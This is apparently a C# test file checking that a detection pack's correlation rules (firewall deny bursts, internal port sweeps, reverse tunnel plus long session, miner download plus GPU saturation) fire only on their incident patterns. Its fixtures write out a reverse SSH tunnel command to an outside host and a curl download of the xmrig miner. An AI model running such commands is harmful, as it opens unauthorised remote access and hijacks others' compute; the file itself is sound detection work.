using System.Globalization;

namespace AlertPipeline.Core.Tests.Detect.Correlation;

/// <summary>
/// The bundled pack's correlation rules, run through the real pipeline with the whole pack loaded: each fires on
/// its incident pattern and stays silent on the benign traffic closest to it.
/// </summary>
public sealed class CorrelationPackTests
{
    private static readonly Dictionary<string, Func<List<string>>> Scenarios = new(StringComparer.Ordinal)
    {
        ["five denies from one address in four minutes"] = () => [.. Enumerable.Range(0, 5).Select(i => FirewallDeny(i * 50, "10.40.77.31", 3333))],
        ["four denies from one address"] = () => [.. Enumerable.Range(0, 4).Select(i => FirewallDeny(i * 50, "10.40.77.31", 3333))],
        ["six denies spread over three addresses"] = () => [.. Enumerable.Range(0, 6).Select(i => FirewallDeny(i * 10, $"10.40.77.{31 + (i % 3)}", 3333))],
        ["five denies over twenty minutes"] = () => [.. Enumerable.Range(0, 5).Select(i => FirewallDeny(i * 300, "10.40.77.31", 3333))],
        ["a sweep of 24 internal host-ports in ten seconds"] = () => [.. Enumerable.Range(0, 24).Select(i => CorrelationHarness.Connection(i * 0.4, "sbx-1", $"10.40.{i % 6}.{10 + (i % 4)}", 22 + (i / 6)))],
        ["NCCL traffic to five peers, 60 connections"] = () => [.. Enumerable.Range(0, 60).Select(i => CorrelationHarness.Connection(i, "sbx-1", $"10.40.77.{32 + (i % 5)}", 29400 + (i % 2)))],
        ["tunnel, then a 15-minute session out"] = () =>
        [
            CorrelationHarness.Process(0, "sbx-1", "ssh -fNR 2222:localhost:22 tunnel@203.0.113.66").Replace("\"name\":\"sh\"", "\"name\":\"ssh\"", StringComparison.Ordinal),
            LongSession(1, "sbx-1", TimeSpan.FromMinutes(15)),
        ],
        ["a 15-minute session without a tunnel"] = () => [LongSession(1, "sbx-1", TimeSpan.FromMinutes(15))],
        ["tunnel, then a short session"] = () =>
        [
            CorrelationHarness.Process(0, "sbx-1", "ssh -fNR 2222:localhost:22 tunnel@203.0.113.66").Replace("\"name\":\"sh\"", "\"name\":\"ssh\"", StringComparison.Ordinal),
            LongSession(1, "sbx-1", TimeSpan.FromSeconds(40)),
        ],
        ["miner download, then a saturated GPU"] = () =>
        [
            Download(0, "sbx-1", "curl -sLO http://203.0.113.80/xmrig-6.21.0-linux-static-x64.tar.gz"),
            Gpu(60, "sbx-1", 98.5, "kworker"),
        ],
        ["a saturated GPU under training, no download"] = () => [.. Enumerable.Range(0, 10).Select(i => Gpu(i * 10, "sbx-1", 96.0, "python3"))],
        ["a saturated GPU, then the download"] = () =>
        [
            Gpu(0, "sbx-1", 98.5, "python3"),
            Download(60, "sbx-1", "curl -sLO http://203.0.113.80/xmrig-6.21.0-linux-static-x64.tar.gz"),
        ],
        ["miner download, GPU saturated an hour later"] = () =>
        [
            Download(0, "sbx-1", "curl -sLO http://203.0.113.80/xmrig-6.21.0-linux-static-x64.tar.gz"),
            Gpu(3600, "sbx-1", 98.5, "python3"),
        ],
    };

    public static TheoryData<string, bool, string> Cases() => new()
    {
        { "firewall-deny-burst.yml", true, "five denies from one address in four minutes" },
        { "firewall-deny-burst.yml", false, "four denies from one address" },
        { "firewall-deny-burst.yml", false, "six denies spread over three addresses" },
        { "firewall-deny-burst.yml", false, "five denies over twenty minutes" },
        { "internal-discovery.yml", true, "a sweep of 24 internal host-ports in ten seconds" },
        { "internal-discovery.yml", false, "NCCL traffic to five peers, 60 connections" },
        { "tunnel-then-long-session.yml", true, "tunnel, then a 15-minute session out" },
        { "tunnel-then-long-session.yml", false, "a 15-minute session without a tunnel" },
        { "tunnel-then-long-session.yml", false, "tunnel, then a short session" },
        { "miner-download-then-gpu.yml", true, "miner download, then a saturated GPU" },
        { "miner-download-then-gpu.yml", false, "a saturated GPU under training, no download" },
        { "miner-download-then-gpu.yml", false, "a saturated GPU, then the download" },
        { "miner-download-then-gpu.yml", false, "miner download, GPU saturated an hour later" },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task Correlation_rule_fires_on_its_pattern_only(string file, bool fires, string scenario)
    {
        var pack = RulePackTests.LoadPack();
        var ruleId = pack.Single(r => r.File == file).Record.Id;
        var harness = new CorrelationHarness(pack.Select(r => r.Record.Yaml));
        await CorrelationHarness.SendAsync(harness.NewInstance(), "p0", Scenarios[scenario]().Select((json, i) => ((long)i, json)));

        var alerts = await harness.AlertsOfAsync(ruleId);
        Assert.Equal(fires ? 1 : 0, alerts.Count);
        if (fires)
        {
            Assert.NotEqual("unattributed", alerts[0].SandboxId);
        }
    }

    private static string Time(double seconds) => CorrelationHarness.T0.AddSeconds(seconds).ToString("yyyy-MM-ddTHH:mm:ss.fffZ", CultureInfo.InvariantCulture);

    private static string FirewallDeny(double seconds, string sourceIp, int port) =>
        $$$"""{"@timestamp":"{{{Time(seconds)}}}","event":{"category":"network","action":"deny"},"observer":{"type":"firewall","name":"fw-1"},"sandbox":{"id":"sbx-{{{sourceIp}}}"},"source":{"ip":"{{{sourceIp}}}","port":40000},"destination":{"ip":"198.51.100.45","port":{{{port}}}},"network":{"transport":"tcp"}}""";

    private static string LongSession(double seconds, string sandbox, TimeSpan duration) =>
        $$$"""{"@timestamp":"{{{Time(seconds)}}}","event":{"category":"network","type":"connection","duration":{{{duration.Ticks * 100}}}},"sandbox":{"id":"{{{sandbox}}}"},"source":{"ip":"10.40.0.9","port":40000},"destination":{"ip":"203.0.113.66","port":22},"network":{"transport":"tcp"}}""";

    private static string Download(double seconds, string sandbox, string commandLine) =>
        $$$"""{"@timestamp":"{{{Time(seconds)}}}","event":{"category":"process","type":"start"},"sandbox":{"id":"{{{sandbox}}}"},"process":{"pid":7,"name":"curl","executable":"/usr/bin/curl","command_line":"{{{commandLine}}}"}}""";

    private static string Gpu(double seconds, string sandbox, double utilization, string process) =>
        $$$"""{"@timestamp":"{{{Time(seconds)}}}","event":{"category":"host","dataset":"gpu.metrics"},"sandbox":{"id":"{{{sandbox}}}"},"gpu":{"index":0,"utilization":{{{utilization.ToString(CultureInfo.InvariantCulture)}}}},"process":{"pid":9,"name":"{{{process}}}"}}""";
}
